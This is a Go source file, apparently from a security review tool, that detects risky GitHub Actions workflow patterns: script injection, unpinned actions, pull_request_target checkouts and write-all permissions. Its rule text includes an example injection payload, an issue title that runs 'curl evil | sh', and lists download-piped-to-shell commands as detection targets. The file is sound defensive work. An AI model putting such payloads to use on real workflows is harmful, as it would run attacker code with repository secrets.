package gha

import (
	"fmt"
	"regexp"
	"strings"

	"reef/gitops/iac"
	"reef/gitops/iac/manifests/internal/resource"
	"reef/gitops/iac/manifests/internal/shell"
	"reef/gitops/iac/manifests/internal/ytree"
)

var (
	fullSHA = regexp.MustCompile(`^[0-9a-f]{40}$`)
	// expr is one ${{ }} expression.
	expr = regexp.MustCompile(`\$\{\{\s*([^}]*?)\s*\}\}`)
	// untrusted are the github context fields an outside contributor
	// controls as free text (GitHub's own list for script injection);
	// numbers and SHAs are safe and left out.
	untrusted = regexp.MustCompile(`\bgithub\.(head_ref\b|event\.(` +
		`issue\.(title|body)|pull_request\.(title|body|head\.ref|head\.label|head\.repo\.default_branch)|` +
		`comment\.body|review\.body|review_comment\.body|discussion\.(title|body)|` +
		`pages\[[^\]]*\]\.page_name|pages\.\*\.page_name|` +
		`commits\[[^\]]*\]\.(message|author\.(email|name))|commits\.\*\.(message|author\.(email|name))|` +
		`head_commit\.(message|author\.(email|name))|` +
		`workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(email|name)))))`)
	// prHead are references to the pull request's own code.
	prHead = regexp.MustCompile(`github\.event\.pull_request\.head\.(sha|ref|repo\.full_name)|github\.head_ref|` +
		`github\.event\.pull_request\.merge_commit_sha|refs/pull/|github\.event\.number`)
)

// writeAll reports permissions: write-all.
func isWriteAll(p *ytree.Value) bool {
	return p != nil && p.Kind == ytree.Scalar && p.Text == "write-all"
}

func writeAll(subject, key string, p *ytree.Value) resource.Risk {
	return resource.Risk{Rule: "gha-script-injection", Severity: iac.Medium, Key: key, Line: p.Line,
		Message: subject + " grants permissions: write-all, so any injected command can push code, publish releases and change settings."}
}

// unpinnedAction reports a uses: that names a tag or branch instead of a
// commit SHA. Local actions and docker:// images are out of scope.
func unpinnedAction(subject string, u *ytree.Value) *resource.Risk {
	ref := strings.TrimSpace(u.String())
	if ref == "" || strings.HasPrefix(ref, "./") || strings.HasPrefix(ref, "docker://") || strings.Contains(ref, "${{") {
		return nil
	}
	action, version, _ := strings.Cut(ref, "@")
	if fullSHA.MatchString(version) {
		return nil
	}
	owner, _, _ := strings.Cut(action, "/")
	sev, who := iac.Medium, "its owner"
	if owner == "actions" || owner == "github" {
		sev, who = iac.Low, "GitHub"
	}
	what := ref + ", a tag or branch"
	if version == "" {
		what = action + " with no version, which"
	}
	return &resource.Risk{Rule: "gha-unpinned-action", Severity: sev, Key: subject + " " + action, Line: u.Line,
		Message: fmt.Sprintf("%s uses %s %s can move to other code; pin the full commit SHA.", capital(subject), what, who)}
}

// prCheckout reports a step that checks out the pull request's code in a
// pull_request_target workflow, which runs with the base repository's
// secrets and a write token.
func prCheckout(subject string, s *ytree.Value) *resource.Risk {
	uses := strings.ToLower(s.Get("uses").String())
	var hit *ytree.Value
	if strings.HasPrefix(uses, "actions/checkout@") {
		for _, k := range []string{"ref", "repository"} {
			if v := s.At("with", k); v != nil && prHead.MatchString(v.String()) {
				hit = v
				break
			}
		}
	}
	if run := s.Get("run"); hit == nil && run != nil {
		t := run.String()
		if strings.Contains(t, "gh pr checkout") || prHead.MatchString(t) && strings.Contains(t, "git ") {
			hit = run
		}
	}
	if hit == nil {
		return nil
	}
	return &resource.Risk{Rule: "gha-pr-target-checkout", Severity: iac.Critical, Key: subject, Line: hit.Line,
		Message: capital(subject) + " checks out the pull request's code in a pull_request_target workflow, so a fork's code runs with this repository's secrets and write token."}
}

// injection reports untrusted text interpolated into a script (run: or
// actions/github-script's script:) and downloads piped into a shell.
func injection(subject string, s *ytree.Value) []resource.Risk {
	var out []resource.Risk
	scripts := []*ytree.Value{s.Get("run")}
	if strings.HasPrefix(strings.ToLower(s.Get("uses").String()), "actions/github-script@") {
		scripts = append(scripts, s.At("with", "script"))
	}
	for _, sc := range scripts {
		if sc == nil {
			continue
		}
		text := sc.String()
		seen := map[string]bool{}
		for _, m := range expr.FindAllStringSubmatch(text, -1) {
			field := untrusted.FindString(m[1])
			if field == "" || seen[field] {
				continue
			}
			seen[field] = true
			out = append(out, resource.Risk{Rule: "gha-script-injection", Severity: iac.High, Key: subject + " " + field, Line: sc.LineOf(m[0]),
				Message: fmt.Sprintf("%s puts ${{ %s }} straight into its script, so a crafted value runs as code; pass it through env: instead.", capital(subject), field)})
		}
		if m := shell.PipeToShell(text); m != "" && sc == s.Get("run") {
			out = append(out, resource.Risk{Rule: "gha-script-injection", Severity: iac.Medium, Key: subject + " pipe", Line: sc.LineOf(m),
				Message: capital(subject) + " pipes a download straight into an interpreter, running whatever the server returns; download, verify a checksum, then run."})
		}
	}
	return out
}

func capital(s string) string {
	if s == "" {
		return s
	}
	return strings.ToUpper(s[:1]) + s[1:]
}

// Rules documents the gha-* rules.
func Rules() []iac.RuleDoc {
	const applies = "GitHub Actions workflows (.github/workflows/*.yml)"
	return []iac.RuleDoc{
		{
			ID: "gha-pr-target-checkout", Severity: iac.Critical, Applies: applies,
			Matches: "A workflow triggered by pull_request_target with a step that checks out the pull request's code: " +
				"actions/checkout with ref or repository from github.event.pull_request.head.*, github.head_ref, " +
				"merge_commit_sha or refs/pull/..., or a run: step using gh pr checkout or git with those references.",
			Why: "pull_request_target runs in the base repository's context with its secrets and a write token; checking out " +
				"and building the fork's code hands both to anyone who opens a pull request.",
			Silence: "Use pull_request for building untrusted code, or split into a pull_request build and a workflow_run " +
				"job that only reads its artifacts; if the checked-out code is never executed, disable the rule for the path.",
		},
		{
			ID: "gha-unpinned-action", Severity: iac.Medium, Applies: applies,
			Matches: "A step's or a job's uses: that names a tag or branch (or no version) instead of a 40-character commit " +
				"SHA: third-party actions and reusable workflows are medium, GitHub's own (actions/*, github/*) low. Local " +
				"(./) actions and docker:// images are left alone; a SHA with a # v4.1.1 comment is pinned.",
			Why: "A tag is a pointer its owner (or whoever steals their token) can move: the next run executes new code with " +
				"the workflow's secrets, as in the tj-actions/changed-files compromise.",
			Silence: "Pin the full SHA and keep the version in a comment (uses: owner/action@<sha> # v2.3.1); Dependabot and " +
				"Renovate update both. Lower the rule's severity in .reef/review.yaml to accept GitHub's own actions.",
		},
		{
			ID: "gha-script-injection", Severity: iac.High, Applies: applies,
			Matches: "${{ }} expressions with attacker-controlled text (github.event issue, pull request, comment, review and " +
				"discussion titles and bodies, commit messages and authors, head_ref and head branch names, page names) inside " +
				"run: or actions/github-script's script: (high); permissions: write-all on the workflow or a job (medium); a " +
				"download piped into a shell or interpreter (curl ... | sh, wget -O- | sudo bash, bash <(curl ...)) in run: " +
				"(medium).",
			Why: "Expressions are pasted into the script before the shell runs it, so an issue titled `\"; curl evil | sh #` " +
				"executes with the job's token and secrets; write-all makes that token able to push code, and piping a " +
				"download to a shell runs whatever the server (or anyone between) sends.",
			Silence: "Pass the value through env: (env: TITLE: ${{ github.event.issue.title }}, then \"$TITLE\"); grant only the " +
				"permissions a job needs; download to a file, verify its checksum, then run it.",
		},
	}
}
